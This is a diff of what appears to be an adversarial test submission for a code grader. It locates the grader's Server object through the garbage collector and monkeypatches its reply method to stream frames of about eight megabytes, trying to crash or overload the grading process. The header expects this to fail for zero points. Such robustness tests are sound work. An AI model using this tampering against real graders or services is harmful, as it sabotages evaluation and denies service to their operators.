@@ -1,40 +1,31 @@
 # attack: each answer is a frame of nearly eight megabytes in the right form, for the grader to read and to keep
 # origin: own
-# expect: forward=crashed loss=crashed points=0
+# expect: forward=crashed|failed|stopped points=0
 
 import gc
+import os
 import struct
 
 server = next(found for found in gc.get_objects() if type(found).__name__ == "Server")
+LEAVES = struct.pack("<cI", b"l", 1000) + struct.pack("<cq", b"i", 2**40) * 1000
+ROW = struct.pack("<cI", b"l", 3) + struct.pack("<cI", b"s", 4) + b"list" + LEAVES + b"N"
+ANSWER = struct.pack("<cI", b"l", 3) + struct.pack("<cI", b"s", 4) + b"list"
+ANSWER += struct.pack("<cI", b"l", 900) + ROW * 900 + b"N"
 
 
-def listed(count, content):
-    return struct.pack("<cI", b"l", count) + content
+def reply(self, number, index, answer):
+    if number == 0:
+        return old(self, number, index, answer)
+    payload = struct.pack("<cIcqcq", b"l", 5, b"i", number, b"i", index)
+    payload += struct.pack("<cI", b"s", 8) + b"returned" + ANSWER + struct.pack("<cI", b"l", 0)
+    data = memoryview(len(payload).to_bytes(4, "little") + payload)
+    while data:
+        data = data[os.write(self._replies, data) :]
 
 
-def said(text):
-    return struct.pack("<cI", b"s", len(text)) + text
-
-
-ROW = listed(3, said(b"list") + listed(1000, struct.pack("<cq", b"i", 2**40) * 1000) + b"N")
-ANSWER = listed(3, said(b"list") + listed(800, ROW * 800) + b"N")
-CHANGED = listed(800_000, struct.pack("<cq", b"i", 0) * 800_000)
-PARTS = [ANSWER, listed(0, b"")]
-
-
-def send(self, data):
-    payload = data[4 : 4 + 5 + 9 + 9] + said(b"returned") + b"".join(PARTS)
-    old(self, len(payload).to_bytes(4, "little") + payload if data[10:14] != bytes(4) else data)
-
-
-old = type(server)._send
-type(server)._send = send
+old = type(server)._reply
+type(server)._reply = reply
 
 
 def forward(x, w):
     return x * w
-
-
-def loss(x, y, w):
-    PARTS[:] = struct.pack("<cd", b"d", (x * w - y) ** 2), CHANGED
-    return (x * w - y) ** 2
